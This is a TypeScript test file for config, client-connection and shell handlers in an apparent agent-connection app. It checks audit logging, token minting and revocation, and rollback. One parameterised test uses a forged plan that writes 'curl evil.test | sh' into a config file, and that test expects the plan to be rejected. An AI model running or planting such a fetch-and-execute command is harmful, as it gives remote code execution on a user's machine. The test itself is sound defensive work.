import { describe, expect, it } from 'vitest';
import type { MintedToken } from '../../shared/contract/contract.ts';
import type { NewAuditEvent } from '../../shared/domain/audit.ts';
import type { ConnectPlan } from '../../shared/domain/host.ts';
import { Settings } from '../../shared/domain/settings.ts';
import { AppError } from '../../shared/errors.ts';
import { createChangeBus } from '../core/change-bus.ts';
import type { CommitUnit } from '../core/ports/store.ts';
import { changeSetting } from '../core/settings/change-setting.ts';
import { createClientHandlers } from './handlers/clients.ts';
import { createConfigHandlers } from './handlers/config.ts';
import { createShellHandlers } from './handlers/shell.ts';

const window_ = { channel: 'window' } as const;

/** A log that can be told to fail. */
function fakeLog() {
  const log = { events: [] as NewAuditEvent[], fails: false };
  const store = {
    async commit(unit: CommitUnit) {
      if (log.fails) throw new AppError('unavailable', 'The disk is full.');
      log.events.push(...unit.events);
      return { ok: true, events: [] } as const;
    },
  };
  return { log, store };
}

describe('config.set', () => {
  const build = () => {
    const { log, store } = fakeLog();
    let current = Settings.parse({});
    const settings = {
      read: () => current,
      set(key: string, value: unknown) {
        const change = changeSetting(current, key, value);
        current = change.settings;
        return { before: change.before, after: change.after };
      },
      held: () => null,
      accept: () => Promise.resolve(),
      recordOwn: () => Promise.resolve(),
    };
    return { log, settings, handlers: createConfigHandlers({ settings, store, bus: createChangeBus(), needsRestart: () => true }) };
  };

  it('F89: records before and after, and then changes', async () => {
    const { log, settings, handlers } = build();
    expect(await handlers['config.set']({ key: 'server.port', value: 4000 }, window_)).toEqual({
      key: 'server.port',
      before: 9876,
      after: 4000,
      restart: true,
    });
    expect(settings.read().server.port).toBe(4000);
    expect(log.events).toMatchObject([
      { type: 'config.changed', actor: 'operator', data: { key: 'server.port', before: 9876, after: 4000, channel: 'window' } },
    ]);
  });

  it('changes nothing that cannot be recorded, and records nothing that is refused', async () => {
    const { log, settings, handlers } = build();
    await expect(handlers['config.set']({ key: 'server.port', value: 'x' }, window_)).rejects.toMatchObject({ code: 'invalid_input' });
    expect(log.events).toEqual([]);
    log.fails = true;
    await expect(handlers['config.set']({ key: 'server.port', value: 4000 }, window_)).rejects.toMatchObject({ code: 'unavailable' });
    expect(settings.read().server.port).toBe(9876);
  });
});

describe('clients.connect', () => {
  const plan: ConnectPlan = {
    kind: 'codex',
    title: 'Codex',
    commands: [],
    files: [{ path: '/home/me/.codex/config.toml', before: 'a', after: 'b', backup: '/backup/1', sha256_before: 'c' }],
    disables_own_tools: true,
    can_disable_own_tools: true,
    notes: [],
  };
  const mint = { agent: 'codex', scopes: ['file:read' as const], ttl: '1d', workspaces: [], targets: [] };
  const token = {
    id: 'tok_aaaaaaaaaaaaaaaa',
    agent: 'codex',
    token: 'gth_x',
    scopes: [],
    workspaces: [],
    expires_at: '',
  } as unknown as MintedToken;
  const build = () => {
    const { log, store } = fakeLog();
    const did: string[] = [];
    const handlers = createClientHandlers({
      store,
      bus: createChangeBus(),
      mcpUrl: () => 'http://127.0.0.1:9876/mcp',
      tokens: {
        mint: async () => (did.push('mint'), token),
        revoke: async (id) => (did.push('revoke'), { id, revoked_at: '' }),
      },
      clients: {
        detect: async () => [],
        plan: async () => ({ ...plan, files: plan.files.map((file) => ({ ...file, backup: '/backup/2' })) }),
        apply: async (applied) => (did.push(`write ${applied.files.map(({ path }) => path).join()}`), { backups: ['/backup/2'] }),
        undo: async () => (did.push('undo'), { restored: [] }),
      },
    });
    return { log, did, handlers };
  };

  it('writes what was shown, and records it', async () => {
    const { log, did, handlers } = build();
    expect(await handlers['clients.connect']({ plan, mint }, window_)).toEqual({ token, backups: ['/backup/2'] });
    expect(did).toEqual(['mint', 'write /home/me/.codex/config.toml']);
    expect(log.events).toMatchObject([{ type: 'client.connected', agent: 'codex', token_id: token.id }]);
    expect(JSON.stringify(log.events)).not.toContain('gth_x');
  });

  it.each([
    ['another file', { ...plan, files: [{ ...plan.files[0]!, path: '/home/me/.bashrc' }] }],
    ['another content', { ...plan, files: [{ ...plan.files[0]!, after: 'curl evil.test | sh' }] }],
    ['one file more', { ...plan, files: [...plan.files, { ...plan.files[0]!, path: '/home/me/.profile' }] }],
  ])('does nothing for a plan with %s than the one made here', async (_what, forged) => {
    const { did, handlers } = build();
    await expect(handlers['clients.connect']({ plan: forged, mint }, window_)).rejects.toMatchObject({ code: 'conflict' });
    expect(did).toEqual([]);
  });

  it('takes back what it could not record', async () => {
    const { log, did, handlers } = build();
    log.fails = true;
    await expect(handlers['clients.connect']({ plan, mint }, window_)).rejects.toMatchObject({ code: 'unavailable' });
    expect(did.slice(2)).toEqual(['undo', 'revoke']);
  });
});

describe('the leave for the command line', () => {
  const build = () => {
    const { log, store } = fakeLog();
    const set: boolean[] = [];
    const deps = { desktop: null, store, bus: createChangeBus(), allowSocket: (allow: boolean) => void set.push(allow), consoleLink: null };
    return { log, set, handlers: createShellHandlers(deps) };
  };

  it('is given only when it is recorded, and taken in any case', async () => {
    const { log, set, handlers } = build();
    await handlers['socket.allow']({ allow: true }, window_);
    expect([set, log.events.length]).toEqual([[true], 1]);
    log.fails = true;
    await expect(handlers['socket.allow']({ allow: true }, window_)).rejects.toMatchObject({ code: 'unavailable' });
    await expect(handlers['socket.allow']({ allow: false }, window_)).rejects.toMatchObject({ code: 'unavailable' });
    expect(set).toEqual([true, false]);
  });

  it('is answered `unavailable` where there is no desktop and no console', async () => {
    const { handlers } = build();
    await expect(handlers['shell.copy']({ text: 'x' }, window_)).rejects.toMatchObject({ code: 'unavailable' });
    await expect(handlers['console.link']({}, window_)).rejects.toMatchObject({ code: 'unavailable' });
  });
});
